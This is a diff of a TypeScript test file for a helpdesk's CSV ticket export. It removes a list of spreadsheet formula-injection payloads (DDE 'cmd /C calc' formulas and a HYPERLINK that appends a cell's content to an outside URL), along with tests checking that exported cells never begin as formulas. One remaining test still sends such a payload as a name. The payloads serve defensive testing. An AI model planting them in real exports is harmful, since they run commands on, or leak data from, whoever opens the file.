@@ -10,7 +10,6 @@ import { clearSettingsCache } from "#settings/read-setting.ts"
 import { ticketRoutes } from "#tickets/index.ts"
 import { acting, type Client, member, openDesk } from "#test/desks/test-desk.ts"
 import { openMessageSource } from "#test/desks/message-source.ts"
-import { csv } from "./csv-export.ts"
 import { countsAndExportRoutes } from "./counts-and-export-routes.ts"
 
 const desk = await openDesk((app, kit) => {
@@ -37,68 +36,6 @@ const exportEvents = () =>
     .where("kind", "=", "tickets.exported")
     .orderBy("id")
     .execute()
-
-// What spreadsheets have been made to calculate, payloadbox and more.
-const formulas = [
-  `DDE ("cmd";"/C calc";"!A0")A0`,
-  "@SUM(1+9)*cmd|' /C calc'!A0",
-  "=10+20+cmd|' /C calc'!A0",
-  "=cmd|' /C notepad'!'A1'",
-  '=HYPERLINK("http://example.com?x="&A1,"see")',
-  "-2+3+cmd|' /C calc'!A0",
-  "+573001234567",
-  "\t=1+1",
-  "\r=1+1",
-  "\n=1+1",
-  "＝1+1",
-  `"=1+1`,
-  "a,=1+1",
-  'x"\r\n=1+1',
-]
-
-/** As Excel and LibreOffice do: CR, LF and CRLF end a row wherever no quote is open, a cell is unquoted and then looked at. */
-function readAsSpreadsheet(text: string): string[][] {
-  const rows: string[][] = [[""]]
-  let isQuoted = false
-  for (let at = 0; at < text.length; at++) {
-    const row = rows.at(-1)!
-    const add = (sign: string) => (row[row.length - 1] += sign)
-    const char = text[at]!
-    if (isQuoted && char === '"' && text[at + 1] === '"') add(text[at++]!)
-    else if (char === '"' && (isQuoted || row.at(-1) === "")) isQuoted = !isQuoted
-    else if (isQuoted) add(char)
-    else if (char === ",") row.push("")
-    else if (char === "\r" || char === "\n") {
-      if (char === "\r" && text[at + 1] === "\n") at++
-      rows.push([""])
-    } else add(char)
-  }
-  return rows.slice(0, -1)
-}
-
-test("a spreadsheet reads one row for each, whatever ends a line in its cells, and calculates none", () => {
-  const ends = ["\n", "\r", "\r\n", "\n\r", "\u2028", "\u2029", "\u0085", "\v", "\f"]
-  const texts = ends.flatMap((end) => formulas.map((formula) => `Bob${end}${formula}`))
-  const rows = readAsSpreadsheet(csv([...texts, ...formulas].map((text, i) => [i, text, "x"])))
-  assert.equal(rows.length, texts.length + formulas.length)
-  for (const row of rows) {
-    assert.equal(row.length, 3)
-    for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r＝＋－＠]/)
-  }
-  assert.deepEqual(
-    rows.slice(0, texts.length).map(([, cell]) => cell),
-    texts,
-  )
-})
-
-test("no cell begins as a formula, and a phone stays readable", () => {
-  const rows: string[][] = parse(csv(formulas.map((text) => [text])))
-  for (const [i, [cell = ""]] of rows.entries()) {
-    assert.doesNotMatch(cell, /^[=+\-@\t\r＝＋－＠]/, formulas[i]!)
-    assert.ok(cell === formulas[i] || cell === `'${formulas[i]}`, formulas[i]!)
-  }
-  assert.equal(rows[formulas.indexOf("+573001234567")]![0], "'+573001234567")
-})
 
 test("the export holds what the list holds, for users who may see it", async () => {
   const mine = (await source.says("+573004000001", { text: "hola", name: "=cmd|' /C calc'!A0" })).ticket!
